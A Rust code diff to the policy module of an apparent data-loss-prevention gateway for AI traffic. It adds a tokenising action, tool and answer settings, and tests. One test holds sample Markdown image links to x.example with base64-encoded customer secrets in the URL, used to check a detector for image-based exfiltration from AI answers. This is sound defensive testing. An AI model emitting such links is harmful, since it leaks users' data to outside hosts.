@@ -8,6 +8,7 @@
 #![deny(clippy::indexing_slicing, clippy::string_slice)]
 
 pub mod advice;
+pub mod answers;
 pub mod bundle;
 pub mod code;
 pub mod compile;
@@ -20,14 +21,18 @@ pub mod load;
 pub mod places;
 pub mod reference;
 pub mod time;
+pub mod tools;
 
 use std::fmt;
 
+use answers::Answers;
 use aws_lc_rs::digest;
 use code::Code;
+use compile::Acts;
 use compile::Deciders;
 use compile::Looks;
 use document::Document;
+use tools::Tools;
 
 use crate::extract::Part;
 use crate::extract::Place;
@@ -59,6 +64,8 @@ pub enum Action {
     Warn,
     /// The match is replaced by a placeholder, and the request goes on.
     Redact,
+    /// The match is replaced by a placeholder, the request goes on, and the match is put back where the answer repeats the placeholder.
+    Tokenise,
     /// The request is refused.
     Block,
 }
@@ -186,6 +193,12 @@ impl Scope {
 }
 
 impl Action {
+    /// Whether a match is replaced by a placeholder.
+    #[must_use]
+    pub const fn replaces(self) -> bool {
+        matches!(self, Self::Redact | Self::Tokenise)
+    }
+
     /// The word in a policy's `action`.
     #[must_use]
     pub const fn label(self) -> &'static str {
@@ -193,6 +206,7 @@ impl Action {
             Self::Allow => "allow",
             Self::Warn => "warn",
             Self::Redact => "redact",
+            Self::Tokenise => "tokenise",
             Self::Block => "block",
         }
     }
@@ -209,11 +223,15 @@ pub struct Policy {
     path_key: Option<[u8; 32]>,
     content: Unread,
     media: Unread,
+    tools: Tools,
+    answers: Answers,
     scanner: Scanner,
     /// In the order of the document.
     rules: Box<[Rule]>,
     /// INVARIANT: one for each finder of `scanner`; every index is one of `rules`.
     deciders: Box<[Deciders]>,
+    /// INVARIANT: one for each finder of `scanner`.
+    acts: Box<[Acts]>,
     looks: Looks,
     /// SHA-256 of the document's bytes.
     digest: [u8; 32],
@@ -256,6 +274,18 @@ impl Policy {
         self.media
     }
 
+    /// Which tools an answer may call.
+    #[must_use]
+    pub const fn tools(&self) -> &Tools {
+        &self.tools
+    }
+
+    /// What it says about answers as such.
+    #[must_use]
+    pub const fn answers(&self) -> &Answers {
+        &self.answers
+    }
+
     /// What finds its rules' matches. A finding's `finder` is for [`Self::rule_for`].
     #[must_use]
     pub const fn scanner(&self) -> &Scanner {
@@ -286,6 +316,13 @@ impl Policy {
     #[must_use]
     pub fn looks_at(&self, scope: Scope, part: Part) -> bool {
         self.looks.get(scope as usize).and_then(|parts| parts.get(part as usize)).is_some_and(|looks| *looks)
+    }
+
+    /// Whether a match of this finder is, at some place of this part, replaced or a reason to block. Of a finder that only allows or
+    /// tells there, an unfinished match holds no text back.
+    #[must_use]
+    pub fn acts(&self, finder: u16, scope: Scope, part: Part) -> bool {
+        self.acts.get(usize::from(finder)).is_some_and(|acts| acts.at(scope, part))
     }
 
     /// Its rules, in the order of the document.
@@ -334,7 +371,13 @@ mod tests {
     use super::Unread;
     use super::Uuid;
     use super::Validity;
+    use super::answers::Oversize;
+    use crate::extract::Layer;
     use crate::extract::Part;
+    use crate::extract::Place;
+    use crate::extract::Role;
+    use crate::inspect::Text;
+    use crate::inspect::Work;
     use crate::inspect::detector::DETECTORS;
 
     #[test]
@@ -343,14 +386,77 @@ mod tests {
         assert_eq!((policy.version(), policy.tenant(), policy.origin()), (0, "", Origin::BuiltIn));
         assert_eq!((policy.content(), policy.media()), (Unread::Forward, Unread::Forward));
         assert_eq!([0, u64::MAX].map(|unix| policy.validity(unix)), [Validity::Valid; 2]);
+        assert_eq!((policy.answers().oversize, policy.tools().is_empty()), (Oversize::Scan, true));
         let rules: Vec<_> = policy.rules().iter().map(|rule| rule.code.to_string()).collect();
-        assert_eq!(rules, DETECTORS.iter().map(|row| row.code).collect::<Vec<_>>());
+        let (requests, answers) = rules.split_at(DETECTORS.len());
+        assert_eq!(requests, DETECTORS.iter().map(|row| row.code).collect::<Vec<_>>());
+        assert_eq!(answers.len(), DETECTORS.len() + 1);
         let secret = |code: &str| code.starts_with("DLP.SECRET.") && code != "DLP.SECRET.JWT";
-        assert!(policy.rules().iter().all(|rule| (rule.action == Action::Block) == secret(rule.code.as_str())));
+        for (at, rule) in policy.rules().iter().enumerate() {
+            assert_eq!(
+                rule.action == Action::Block,
+                at < DETECTORS.len() && secret(rule.code.as_str()),
+                "{}",
+                rule.code
+            );
+        }
         let looks =
-            [Part::Headers, Part::Body, Part::Url, Part::Tools].map(|part| policy.looks_at(Scope::Request, part));
-        assert_eq!(looks, [false, true, true, true]);
-        assert!(!policy.looks_at(Scope::Response, Part::Body));
+            |scope| [Part::Headers, Part::Body, Part::Url, Part::Tools].map(|part| policy.looks_at(scope, part));
+        assert_eq!(looks(Scope::Request), [false, true, true, true]);
+        assert_eq!(looks(Scope::Response), [false, true, false, true]);
+    }
+
+    #[test]
+    fn what_the_built_in_policy_only_tells_of_holds_nothing_back() {
+        let policy = Policy::built_in();
+        let place = Place { part: Part::Body, layer: Layer::PostTemplate, role: Role::Assistant };
+        let policy = &policy;
+        let acting = |scope| {
+            let acts =
+                (0..).map_while(|finder| policy.rule_for(finder, Scope::Response, place).map(|rule| (finder, rule)));
+            acts.filter(move |(finder, _)| policy.acts(*finder, scope, Part::Body))
+                .map(|(_, rule)| rule.code.to_string())
+        };
+        let answers: Vec<_> = acting(Scope::Response).collect();
+        let told = ["DLP.PII.EMAIL", "DLP.PII.PHONE", "DLP.PII.IP_ADDRESS"];
+        let rest = DETECTORS.iter().map(|row| row.code).filter(|code| !told.contains(code));
+        assert_eq!(answers, rest.collect::<Vec<_>>());
+        let requests = DETECTORS.iter().map(|row| row.code).filter(|code| *code != "DLP.PII.IP_ADDRESS");
+        assert_eq!(acting(Scope::Request).collect::<Vec<_>>(), requests.collect::<Vec<_>>());
+        assert!((0..20).all(|finder| !policy.acts(finder, Scope::Response, Part::Url)));
+    }
+
+    #[test]
+    fn an_image_that_carries_a_long_value_is_found() {
+        let policy = Policy::built_in();
+        let (first, second) = ("c2VjcmV0IHZhbHVlcyBv", "ZiBzb21lIGN1c3RvbWVyIG9mIG91cnM");
+        let long = format!("{first}{second}");
+        let cases = [
+            (format!("see ![a](https://x.example/p.png?q={long}) there"), true),
+            (format!("![](http://x.example/a/b?v=1&q={long}&w=2)"), true),
+            (format!("![a\n](http://x.example/?q={first}%20{second})"), true),
+            (format!("[a](https://x.example/p.png?q={long})"), false),
+            ("![a](https://x.example/p.png?width=400&height=300)".to_owned(), false),
+            (format!("![a](https://x.example/{long}.png)"), false),
+            (format!("![a] (https://x.example/?q={long})"), false),
+        ];
+        for (text, expected) in cases {
+            let (mut work, mut findings) = (Work::default(), Vec::new());
+            let text_of = Text { bytes: text.as_bytes(), key: b"" };
+            policy.scanner().scan(text_of, &mut work, &mut findings).unwrap();
+            let place = Place { part: Part::Body, layer: Layer::PostTemplate, role: Role::Assistant };
+            let codes = findings.iter().filter_map(|finding| policy.rule_for(finding.finder, Scope::Response, place));
+            assert_eq!(
+                codes.filter(|rule| rule.code.as_str() == "INJECTION.EXFIL_MARKDOWN").count(),
+                usize::from(expected),
+                "{text}"
+            );
+        }
+        // Many beginnings cost no more than bytes.
+        let text = "![](https://a.example/?".repeat(2_000);
+        let (mut work, mut findings) = (Work { input: text.len() as u64, ..Work::default() }, Vec::new());
+        policy.scanner().scan(Text { bytes: text.as_bytes(), key: b"" }, &mut work, &mut findings).unwrap();
+        assert!(work.verified < 4 * text.len() as u64, "{work:?}");
     }
 
     #[test]
